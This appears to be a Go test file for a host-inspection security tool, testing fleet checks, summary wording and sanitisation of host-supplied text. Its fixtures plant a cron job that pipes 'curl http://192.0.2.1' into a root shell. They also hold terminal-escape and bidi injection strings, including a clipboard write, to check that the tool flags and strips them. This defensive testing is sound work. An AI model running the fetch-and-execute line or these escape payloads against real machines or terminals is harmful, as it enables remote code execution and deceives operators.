package app

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"cordon/internal/check"
	"cordon/internal/host"
	"cordon/internal/host/snapshot"
)

// escapes are what a host may put into any text of its own (facts/host.md §4.1): a title,
// a cleared screen, a clipboard write, a link, a raw C1 byte, bidi and invisible characters.
const escapes = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;b3duZWQ=\x07\x1b]8;;http://192.0.2.1\x07\u009b31m\u202e\u2066\u200b\ufe0f\U000e0041"

// carried is a configuration of hosts that are reached by a program, which serves a
// small tree in place of a machine and notes when it starts and ends.
func carried(t *testing.T, hosts map[string]string) (*App, string) {
	t.Helper()
	dir := t.TempDir()
	put := func(name, text string) {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	config := "hosts:\n"
	for name, kind := range hosts {
		config += fmt.Sprintf("  %s: {exec: [sh, %s/carry, %s, %s]}\n", name, dir, kind, name)
	}
	put("cordon.yaml", config)
	put("carry", `echo "start $2" >>`+dir+`/log
case $1 in
dead) ;;
noisy) sed -e "2s|^R=\$|R=`+dir+`/planted|" | env -i /bin/sh -s; printf '`+strings.ReplaceAll(fmt.Sprintf("%q", escapes), `"`, "")+`' >&2; printf '\033[2J' >&2; exit 7 ;;
*) sed -e "2s|^R=\$|R=`+dir+`/$1|" | env -i /bin/sh -s ;;
esac
echo "end $2" >>`+dir+"/log\n")
	for _, tree := range []string{"clean", "planted"} {
		put(tree+"/proc/stat", "cpu 1\nbtime 1796000000\n")
		put(tree+"/proc/uptime", "7605.25 1\n")
		put(tree+"/proc/1/stat", "1 (systemd) S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 4200 12582912 2048\n")
		put(tree+"/proc/sys/kernel/hostname", "h"+escapes+"\n")
		put(tree+"/etc/os-release", "PRETTY_NAME=\"x"+escapes+"\"\n")
		put(tree+"/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
	}
	put("planted/etc/cron.d/x"+strings.ReplaceAll(escapes, "/", ""), "* * * * * root curl http://192.0.2.1 | sh "+escapes+"\n")
	put("planted/opt/r"+strings.ReplaceAll(escapes, "/", "")+"/.runner", "{\"agentName\":\"n\\u001b[2J\\u202e\",\"gitHubUrl\":\"https://x/\\u001b\"}")
	a, err := Open(t.Context(), Options{Config: filepath.Join(dir, "cordon.yaml"), State: filepath.Join(dir, "state")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(a.Close)
	return a, filepath.Join(dir, "log")
}

// overlap is how many starts there were, and how many at the same time at most.
func overlap(t *testing.T, log string) (starts, most int) {
	t.Helper()
	b, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	now := 0
	for l := range strings.Lines(string(b)) {
		if strings.HasPrefix(l, "start") {
			starts++
			now++
			most = max(most, now)
		} else {
			now--
		}
	}
	return starts, most
}

func TestManyHostsAreReadOnceEachAndTellWhichAreWhich(t *testing.T) {
	kinds := map[string]string{"a-clean": "clean", "b-planted": "planted", "c-dead": "dead", "d-planted": "planted", "e-clean": "clean"}
	a, log := carried(t, kinds)
	names := []string{"e-clean", "d-planted", "c-dead", "b-planted", "a-clean"}
	var told []HostProgress
	r, err := a.CheckHosts(t.Context(), names, "test", check.High, 2, func(p HostProgress) { told = append(told, p) })
	if err != nil {
		t.Fatal(err)
	}
	if starts, most := overlap(t, log); starts != len(names) || most > 2 {
		t.Errorf("%d reads of %d hosts, %d at a time", starts, len(names), most)
	}
	for i, h := range r.Hosts {
		if h.Host != names[i] || h.Case == "" {
			t.Errorf("%d is %s, case %q", i, h.Host, h.Case)
		}
	}
	// These trees are no whole machines, so parts of them could not be looked at: no clean host here.
	if !slices.Equal(r.Summary.Findings, []string{"d-planted", "b-planted"}) || !slices.Contains(r.Summary.CouldNot, "c-dead") || slices.Contains(r.Summary.Clean, "c-dead") ||
		len(r.Summary.Findings)+len(r.Summary.CouldNot)+len(r.Summary.Lesser)+len(r.Summary.Clean) != r.Summary.Asked {
		t.Errorf("%+v", r.Summary)
	}
	if r.Exit() != ExitFindings || (HostsReport{Summary: HostsSummary{CouldNot: []string{"x"}}}).Exit() != ExitCannotTell || (HostsReport{}).Exit() != ExitDone {
		t.Error("exit codes")
	}
	last := told[len(told)-1]
	if len(told) != len(names) || last.Done != 5 || last.Of != 5 || last.Findings != 2 || last.Findings+last.Lost+last.Lesser+last.Clean != 5 {
		t.Errorf("%+v", told)
	}
	if _, err := a.CheckHosts(t.Context(), []string{"a-clean", "nobody"}, "test", check.High, 2, nil); !errors.Is(err, ErrNoHost) {
		t.Error(err)
	}
}

// Clean is a strong word: nothing above info, and everything seen.
func TestAHostWithLesserFindingsIsNotCalledClean(t *testing.T) {
	report := func(state string, s check.Severity) HostReport {
		r := HostReport{Complete: true, Results: []check.Result{{State: state}}}
		if s != "" {
			r.Results[0].Findings = []check.Finding{{Severity: s}}
		}
		return r
	}
	for want, r := range map[string]HostReport{
		hasFindings: report(check.Found, check.High),
		hasLesser:   report(check.Found, check.Low),
		notSeen:     report(check.Blind, ""),
		allClean:    report(check.Nothing, ""),
	} {
		if got := r.word(check.High); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
	if got := report(check.Found, check.Info).word(check.High); got != allClean {
		t.Error(got)
	}
	partly := report(check.Found, check.Info) // a cap was reached behind what was found
	if partly.Results[0].Why = "partial: privileged cut"; partly.word(check.High) != notSeen || partly.Exit(check.High) != ExitCannotTell {
		t.Error("a look that was cut is everything seen")
	}
	if partly.Results[0].State = check.Unasked; partly.Exit(check.High) != ExitDone {
		t.Error("what was not asked counts as not seen")
	}
	cut := report(check.Nothing, "")
	if cut.Complete = false; cut.word(check.High) != notSeen {
		t.Error("half a read is clean")
	}
}

// An interruption leaves hosts that nobody asked: they are never counted as clean.
func TestHostsThatWereNotAskedAreNotClean(t *testing.T) {
	a, log := carried(t, map[string]string{"a": "clean", "b": "clean", "c": "clean"})
	ctx, cancel := context.WithCancel(t.Context())
	r, err := a.CheckHosts(ctx, []string{"a", "b", "c"}, "test", check.High, 1, func(HostProgress) { cancel() })
	if !errors.Is(err, context.Canceled) || len(r.Summary.Clean) > 1 || len(r.Hosts) != 3 {
		t.Fatalf("%v %+v", err, r.Summary)
	}
	if starts, _ := overlap(t, log); starts != 1 {
		t.Errorf("%d reads", starts)
	}
	for _, h := range r.Hosts[1:] {
		if h.NotRead == "" || !slices.Contains(r.Summary.NotAsked, h.Host) || slices.Contains(r.Summary.CouldNot, h.Host) {
			t.Errorf("%+v of %+v", h, r.Summary)
		}
	}
	if (HostsReport{Summary: HostsSummary{NotAsked: []string{"x"}}}).Exit() != ExitCannotTell {
		t.Error("hosts that were not asked are done")
	}
	var out bytes.Buffer
	Lines{W: &out}.HostsReport(r)
	if !strings.Contains(out.String(), "not asked, the work was interrupted: 2 b c\n") {
		t.Errorf("%s", out.String())
	}
}

// What lies below --fail-on is named as that, and a host with findings that was not wholly
// seen is counted as both.
func TestTheSummaryNamesWhatItCounts(t *testing.T) {
	of := func(host string, s check.Severity, why string) HostReport {
		return HostReport{Host: host, Complete: true, Results: []check.Result{{State: check.Found, Why: why, Findings: []check.Finding{{Severity: s}}}}}
	}
	all := []HostReport{of("a", check.Critical, "partial: cut"), of("b", check.Critical, ""), of("c", check.High, ""), of("d", check.High, "partial: cut")}
	var out bytes.Buffer
	Lines{W: &out}.HostsReport(HostsReport{Summary: summary(all, check.Critical)})
	for _, want := range []string{
		"findings of critical or worse: 2 a b\n", "of those not wholly seen, more may be there: 1 a\n",
		"could not look, or not at everything: 1 d\n", "findings below critical alone, everything seen: 1 c\n",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("%q is not in\n%s", want, out.String())
		}
	}
	if strings.Contains(out.String(), "interrupted") {
		t.Error("nothing was interrupted")
	}
}

// Who has hosts and no provider sees the installations on them in one list; without a
// checked host there is none.
func TestHostsWithoutAProviderAreAFleet(t *testing.T) {
	a, _ := carried(t, map[string]string{"a": "clean", "b": "planted"})
	if _, err := a.ListFleet(t.Context(), FleetOptions{}); !errors.Is(err, ErrUsage) {
		t.Errorf("nothing is known: %v", err)
	}
	if _, err := a.CheckHosts(t.Context(), []string{"a", "b"}, "test", check.High, 2, nil); err != nil {
		t.Fatal(err)
	}
	f, err := a.ListFleet(t.Context(), FleetOptions{})
	if err != nil || FleetExit(f) != ExitDone {
		t.Fatalf("%v, gaps %+v", err, f.Gaps)
	}
	if len(f.Rows) != 1 || f.Rows[0].Hosts[0] != "b" || len(f.Rows[0].Installations) != 1 {
		t.Errorf("%+v", f.Rows)
	}
	var out bytes.Buffer
	Lines{W: &out}.Fleet(f)
	plain(t, "fleet", out.Bytes())
	t.Logf("%s", out.String())
}

// A host name may have 63 characters, as DNS has it: the name of its case is shortened.
func TestAHostWithALongNameCanBeChecked(t *testing.T) {
	long := strings.Repeat("build-", 10)
	a, _ := carried(t, map[string]string{long + "007": "clean", long + "008": "clean"})
	r, err := a.CheckHosts(t.Context(), []string{long + "007", long + "008"}, "test", check.High, 2, nil)
	if err != nil {
		t.Fatal(err)
	}
	if r.Hosts[0].Case == r.Hosts[1].Case || !strings.HasPrefix(r.Hosts[0].Case, "check-build-build-") || r.Hosts[0].NotRead != "" {
		t.Errorf("%q, %q", r.Hosts[0].Case, r.Hosts[1].Case)
	}
	if id := a.hostCase("check", "b7"); !strings.HasPrefix(id, "check-b7-2") {
		t.Error(id)
	}
}

// Nothing that a host says reaches a terminal, a file or a pipe as it is.
func TestNoOutputOfAHostCheckCarriesTheHostsCharacters(t *testing.T) {
	a, _ := carried(t, map[string]string{"b7": "planted", "b8": "noisy"})
	r, err := a.CheckHosts(t.Context(), []string{"b7", "b8"}, "why"+escapes, check.High, 2, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Summary.Findings) != 2 {
		t.Fatalf("%+v", r)
	}
	var out bytes.Buffer
	l := Lines{W: &out}
	l.HostsReport(r)
	l.HostProgress(HostProgress{Host: "b7" + escapes, Word: hasFindings, Done: 1, Of: 2})
	l.Looking([]host.Looking{{Host: "b7", Way: "kubectl" + escapes, Keys: escapes, Problem: escapes, Effects: []string{escapes}, Touches: 1}})
	refused := HostReport{Host: "b9", NotRead: "host key changed" + escapes, Carried: &snapshot.Carried{Transport: "ssh", Carrier: escapes, HostKey: &snapshot.HostKey{Shown: escapes, State: snapshot.KeyChanged, Why: escapes}}}
	refused.Results = check.Run(&snapshot.Snapshot{Carried: refused.Carried, Host: "b9" + escapes})
	l.HostReport(refused)
	plain(t, "text", out.Bytes())
	out.Reset()
	l.HostReport(HostReport{Host: "b9", Complete: true, Carried: refused.Carried})
	plain(t, "text", out.Bytes())
	out.Reset()
	l.HostReport(HostReport{processes: true, Installations: []check.Installation{{Kind: "x"}, {Kind: "y", PIDs: []int{7, 9}}}})
	l.HostReport(HostReport{Installations: []check.Installation{{Kind: "z"}}}) // a disk image has no processes
	if !strings.Contains(out.String(), "no process of it runs\n") || !strings.Contains(out.String(), ", processes 7 9\n") || !strings.Contains(out.String(), "whether it runs was not seen\n") {
		t.Errorf("%s", out.String())
	}
}

// plain finds a character that a terminal would act on, or that hides or turns text.
func plain(t *testing.T, what string, b []byte) {
	t.Helper()
	for _, r := range string(b) {
		if r < 0x20 && r != '\n' || r >= 0x7f && r <= 0x9f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x200b || r >= 0xe0000 && r <= 0xe007f || r == 0xfffd {
			t.Errorf("%s holds %U", what, r)
			return
		}
	}
}
